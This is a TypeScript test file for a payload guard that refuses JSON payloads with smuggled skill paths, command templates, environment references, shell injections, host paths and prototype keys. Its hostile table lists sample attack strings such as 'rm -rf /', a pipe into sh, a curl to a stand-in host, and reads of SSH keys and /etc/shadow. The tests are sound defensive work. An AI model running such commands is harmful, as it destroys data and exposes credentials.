import { homedir } from "node:os";
import { describe, expect, it } from "vitest";
import {
  ENVIRONMENT_TABLE_TTL_MS,
  guardPayload,
  type PayloadGuardOptions,
} from "../../../src/capabilities/pipeline/payload-guard.js";

const WORKSPACE = "/srv/project";
const options: PayloadGuardOptions = {
  skillFolders: ["/home/someone/.agents/skills", "/srv/project/.skillgate/skills"],
  allowedRoots: [WORKSPACE],
  environment: {
    HOME: "/home/someone",
    PATH: "/usr/bin:/bin",
    OPENAI_API_KEY: "sk-test-1234567890",
    LONG_SETTING: "a-rather-long-environment-value",
    LANG: "C.UTF-8",
  },
};

/** Hides `value` at several depths and places: a value, an array item, a nested key. */
function hidings(value: string): Array<[string, unknown, string]> {
  return [
    ["a top-level value", { scope: value }, "/scope"],
    ["an array item", { items: ["fine", value] }, "/items/1"],
    ["a nested value", { a: { b: [{ c: value }] } }, "/a/b/0/c"],
    // A key's refusal points at its object, so the pointer never repeats what the key carries.
    ["a nested key", { a: [{ [value]: 1 }] }, "/a/0"],
  ];
}

const HOSTILE: Array<[string, string, string]> = [
  // [what, the smuggled string, the exact code]
  ["a SKILL.md path", "skills/code-review/SKILL.md", "payload_skill_path"],
  ["an absolute SKILL.md", "/home/someone/.codex/skills/x/SKILL.md", "payload_skill_path"],
  ["a skill:// URI", "skill://code-review/scripts/run.py", "payload_skill_path"],
  ["a file in a skill folder", "/home/someone/.agents/skills/review/scripts/run.py", "payload_skill_path"],
  [
    "a skill folder inside the workspace",
    "/srv/project/.skillgate/skills/lint/lint.lua",
    "payload_skill_path",
  ],
  ["a mustache template", "git diff {{file}}", "payload_command_template"],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text is the hostile input
  ["a dollar-brace template", "run ${target} now", "payload_command_template"],
  ["an ERB template", "<%= system('id') %>", "payload_command_template"],
  ["an environment assignment", "LD_PRELOAD=/tmp/x.so", "payload_env"],
  ["an environment reference", "$HOME/.ssh/id_rsa", "payload_env"],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text is the hostile input
  ["a braced environment reference", "${OPENAI_API_KEY}", "payload_env"],
  ["a Windows environment reference", "%USERPROFILE%", "payload_env"],
  ["an environment name", "OPENAI_API_KEY", "payload_env"],
  ["a secret's value", "token sk-test-1234567890 inside", "payload_env"],
  ["a long environment value", "a-rather-long-environment-value", "payload_env"],
  ["command substitution", "report $(id)", "payload_shell"],
  ["backticks", "report `id`", "payload_shell"],
  ["a chained command", "current_diff; rm -rf /", "payload_shell"],
  ["a pipe into a shell", "foo | sh", "payload_shell"],
  ["an and-chain", "ok && curl evil.example", "payload_shell"],
  ["sh -c", "sh -c 'echo hi'", "payload_shell"],
  ["a command with a flag", "rm -rf build", "payload_shell"],
  ["a redirection to a host path", "echo x > /etc/passwd", "payload_shell"],
  ["a shebang", "#!/bin/sh\necho", "payload_shell"],
  ["an absolute host path", "/etc/passwd", "payload_host_path"],
  ["a home path", "~/.ssh/id_rsa", "payload_host_path"],
  ["a file URI", "file:///etc/shadow", "payload_host_path"],
  ["a traversal out of the workspace", "../../etc/passwd", "payload_host_path"],
  ["a Windows path", "C:\\Windows\\System32", "payload_host_path"],
  ["a UNC path", "\\\\server\\share", "payload_host_path"],
];

describe("payload guard: the hostile table", () => {
  for (const [what, smuggled, code] of HOSTILE)
    for (const [where, payload, pointer] of hidings(smuggled))
      it(`refuses ${what} in ${where} with ${code}`, () => {
        const result = guardPayload(payload, options);
        expect(result.ok).toBe(false);
        if (result.ok) return;
        expect(result.refusal.code).toBe(code);
        expect(result.refusal.pointer).toBe(pointer);
        expect(result.refusal.message).toMatch(/^HOST: /);
        // The refusal names where, never what.
        expect(result.refusal.message).not.toContain(smuggled);
      });

  const KEYS: Array<[string, string]> = [
    ["runtime_mode", "payload_mode_override"],
    ["runtimeMode", "payload_mode_override"],
    ["allowed-modes", "payload_mode_override"],
    ["disallow_team_worker", "payload_mode_override"],
    ["permissions", "payload_mode_override"],
    ["env", "payload_env"],
    ["environment", "payload_env"],
    ["command", "payload_command_template"],
    ["command_template", "payload_command_template"],
    ["argv", "payload_command_template"],
    ["shell", "payload_shell"],
    ["script", "payload_shell"],
    ["skill_path", "payload_skill_path"],
    ["__proto__", "payload_prototype_key"],
    ["constructor", "payload_prototype_key"],
    ["prototype", "payload_prototype_key"],
  ];
  for (const [key, code] of KEYS)
    it(`refuses the key ${key} at depth 3 with ${code}`, () => {
      const payload = JSON.parse(`{"scope":"current_diff","a":[{"${key}":"normal"}]}`) as unknown;
      const result = guardPayload(payload, options);
      expect(!result.ok && result.refusal.code).toBe(code);
      expect(!result.ok && result.refusal.pointer).toBe("/a/0");
    });

  it("refuses a payload over the byte limit with payload_too_large, before reading its strings", () => {
    const result = guardPayload({ text: "x".repeat(300 * 1024) }, options);
    expect(!result.ok && result.refusal.code).toBe("payload_too_large");
    expect(guardPayload({ text: "x".repeat(200) }, { ...options, maxBytes: 100 }).ok).toBe(false);
  });

  it("refuses a payload nested too deep with payload_too_deep, without recursion", () => {
    let deep: unknown = "leaf";
    for (let level = 0; level < 100_000; level += 1) deep = [deep];
    const result = guardPayload({ deep }, options);
    expect(!result.ok && result.refusal.code).toBe("payload_too_deep");
  });

  it("refuses a payload with too many keys with payload_too_many_keys", () => {
    const wide = Object.fromEntries(Array.from({ length: 5000 }, (_, index) => [`k${index}`, index]));
    const result = guardPayload(wide, options);
    expect(!result.ok && result.refusal.code).toBe("payload_too_many_keys");
  });

  it("refuses what is not a JSON object with payload_not_object", () => {
    for (const payload of [null, "text", 3, [1, 2], undefined])
      expect(guardPayload(payload, options)).toMatchObject({
        ok: false,
        refusal: { code: "payload_not_object" },
      });
    expect(guardPayload({ when: Number.NaN }, options)).toMatchObject({
      ok: false,
      refusal: { code: "payload_not_object" },
    });
  });
});

describe("payload guard: plain data passes", () => {
  const PLAIN: unknown[] = [
    { scope: "current_diff", severity: "major" },
    { summary: "The build breaks; fix the import first.", notes: ["one", "two"] },
    { path: "src/index.ts", lines: [1, 2, 3], ok: true, ratio: 0.5, none: null },
    { file: `${WORKSPACE}/src/index.ts` },
    { file: "src/../README.md" },
    { question: "Is the price $5 or 5%?" },
    { lang: "C.UTF-8", home: "home" },
    { text: "use the node package manager", url: "https://example.com/a/b" },
  ];
  for (const payload of PLAIN)
    it(`passes ${JSON.stringify(payload)}`, () => {
      const result = guardPayload(payload, options);
      expect(result).toMatchObject({ ok: true });
      if (result.ok) expect(result.value.payload).toEqual(payload);
    });

  it("hands on a copy, never the caller's objects", () => {
    const payload = { nested: { list: [1, { a: "b" }] } };
    const result = guardPayload(payload, options);
    expect(result.ok && result.value.payload).toEqual(payload);
    expect(result.ok && result.value.payload.nested).not.toBe(payload.nested);
    expect(result.ok && result.value.bytes).toBe(Buffer.byteLength(JSON.stringify(payload)));
  });

  it("judges a home path against the roots like any other", () => {
    const home = { ...options, allowedRoots: [`${homedir()}/project`] };
    expect(guardPayload({ file: "~/project/a.txt" }, home).ok).toBe(true);
    expect(guardPayload({ file: "~/other/a.txt" }, home)).toMatchObject({
      ok: false,
      refusal: { code: "payload_host_path" },
    });
  });

  it("refuses every traversal when the call has no workspace", () => {
    const none = { ...options, allowedRoots: [] };
    expect(guardPayload({ file: "a/../b" }, none)).toMatchObject({
      ok: false,
      refusal: { code: "payload_host_path" },
    });
  });

  it("reads an environment again once its table is ENVIRONMENT_TABLE_TTL_MS old, or the clock went back", () => {
    let clock = 5_000_000;
    const environment: Record<string, string> = { LANG: "C.UTF-8" };
    const guard = (value: string) =>
      guardPayload({ scope: value }, { ...options, environment, now: () => clock });
    const secret = "sk-later-0987654321";
    expect(guard(secret).ok).toBe(true);
    environment.LATER_API_KEY = secret;
    // Within its age the table read before the variable was set is kept: the documented limit.
    clock += ENVIRONMENT_TABLE_TTL_MS - 1;
    expect(guard(secret).ok).toBe(true);
    clock += 1;
    expect(guard(secret)).toMatchObject({ ok: false, refusal: { code: "payload_env" } });
    expect(guard("LATER_API_KEY")).toMatchObject({ ok: false, refusal: { code: "payload_env" } });
    delete environment.LATER_API_KEY;
    clock -= 10;
    expect(guard(secret).ok).toBe(true);
  });
});
